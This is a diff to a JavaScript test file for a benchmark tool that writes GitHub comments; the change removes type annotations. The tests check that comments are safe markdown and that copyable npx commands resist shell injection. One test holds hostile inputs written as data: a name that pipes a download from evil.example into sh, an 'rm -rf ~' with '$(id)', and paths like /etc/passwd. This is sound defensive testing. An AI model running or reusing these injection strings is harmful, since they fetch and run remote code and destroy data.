@@ -14,27 +14,19 @@ const AROUND = { base: 'main', acceptLabel: 'slowdown accepted', isAccepted: fal
 /** As GitHub renders a comment: HTML counts, and addresses become links. */
 const markdown = new MarkdownIt({ html: true, linkify: true })
 
-const slower = (/** @type {Partial<BenchmarkResult>} */ parts = {}) => benchmark({ verdict: 'slower', difference: 1.12, interval: [1.08, 1.16], ...parts })
+const slower = (parts = {}) => benchmark({ verdict: 'slower', difference: 1.12, interval: [1.08, 1.16], ...parts })
 
-/**
- * Writes an artefact as a stranger may write it, and the comment about it.
- *
- * @param {any} t
- * @param {Record<string, unknown>} files
- * @param {Partial<typeof AROUND>} [around]
- */
+/** Writes an artefact as a stranger may write it, and the comment about it. */
 function commentOn (t, files, around) {
   const texts = Object.entries(files).map(([name, content]) => [name, typeof content === 'string' ? content : JSON.stringify(content)])
   return commentOnFolder(t.testdir(Object.fromEntries(texts)), around)
 }
 
-/** @param {string} folder @param {Partial<typeof AROUND>} [around] */
 function commentOnFolder (folder, around) {
   const outcome = decide(readParts(folder), 0.3)
   return { outcome, comment: formatComment(outcome, { ...AROUND, ...around }) }
 }
 
-/** @param {unknown[]} benchmarks of the first machine @param {unknown[]} [second] */
 const files = (benchmarks, second) => ({
   'hotpath-first-1-of-1.json': { ...call([]), benchmarks },
   ...second && { 'hotpath-second.json': { ...call([]), benchmarks: second } },
@@ -45,10 +37,10 @@ const ALLOWED = /^(html_block|paragraph_(open|close)|inline|text|strong_(open|cl
 
 /** @param {any} t @param {string} comment @returns {string} the texts outside of code */
 function checkHarmless (t, comment) {
-  const tokens = markdown.parse(comment, {}).flatMap((/** @type {any} */ token) => [token, ...token.children ?? []])
+  const tokens = markdown.parse(comment, {}).flatMap((token) => [token, ...token.children ?? []])
   t.same(tokens.map(({ type }) => type).filter((type) => !ALLOWED.test(type)), [], comment)
   const html = tokens.filter(({ type }) => type.startsWith('html')).map(({ content }) => content.trim())
-  t.same(html.filter((/** @type {string} */ tag) => ![MARKER, '<sub>', '</sub>'].includes(tag.split('\n')[0])), [], 'HTML of our own')
+  t.same(html.filter((tag) => ![MARKER, '<sub>', '</sub>'].includes(tag.split('\n')[0])), [], 'HTML of our own')
   t.ok(comment.split('\n').length <= 60, 'at most 60 lines')
   t.ok(comment.length < 60_000)
   t.notMatch(comment, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/) // eslint-disable-line no-control-regex
@@ -114,7 +106,7 @@ t.test('the limit for cannot tell', async (t) => {
 })
 
 t.test('parts of several machines are one result, and a missing part is told', async (t) => {
-  const part = (/** @type {number} */ index, /** @type {BenchmarkResult} */ one) => ({ ...call([one]), shard: { index, of: 2 } })
+  const part = (index, one) => ({ ...call([one]), shard: { index, of: 2 } })
   const both = { 'hotpath-first-1-of-2.json': part(1, slower()), 'hotpath-first-2-of-2.json': part(2, benchmark({ name: 'b', verdict: 'not slower' })) }
   t.match(formatHeadline(commentOn(t, both).outcome), /^2 benchmarks/)
   const { outcome, comment } = commentOn(t, { 'hotpath-first-1-of-2.json': part(1, slower()) })
@@ -163,7 +155,7 @@ for (const [name, text] of Object.entries(ATTACKS)) {
 }
 
 t.test('a command that somebody copies runs nothing else', async (t) => {
-  const command = (/** @type {object} */ parts) => commentOn(t, files([slower(parts)], [slower(parts)])).comment.match(/`(npx [^`]*)`/)?.[1]
+  const command = (parts) => commentOn(t, files([slower(parts)], [slower(parts)])).comment.match(/`(npx [^`]*)`/)?.[1]
   t.equal(command({ name: "'; curl evil.example | sh; '" }), 'npx --no hotpath compare --base main a.perf.js', 'a bar cannot be typed in a table')
   t.equal(command({ name: "'; rm -rf ~; '$(id)" }), "npx --no hotpath compare --base main a.perf.js --filter ''\\''; rm -rf ~; '\\''$(id)'")
   for (const file of ['/etc/passwd', '../../x.js', 'a/../../x.js', 'C:\\x.js', '\\\\host\\x.js', '-e', '--import=x', 'a\\..\\..\\x']) t.equal(command({ file }), undefined, file)
@@ -171,7 +163,7 @@ t.test('a command that somebody copies runs nothing else', async (t) => {
 })
 
 t.test('a million rows', async (t) => {
-  const many = (/** @type {number} */ length) => files(Array.from({ length }, (_, index) => slower({ name: `it ${index}` })), [])
+  const many = (length) => files(Array.from({ length }, (_, index) => slower({ name: `it ${index}` })), [])
   checkHarmless(t, commentOn(t, many(LIMITS.benchmarks)).comment)
   t.match(commentOn(t, many(LIMITS.benchmarks)).comment, '1960 more are in')
   const million = { ...call([]), benchmarks: Array.from({ length: 1_000_000 }, () => 0) }
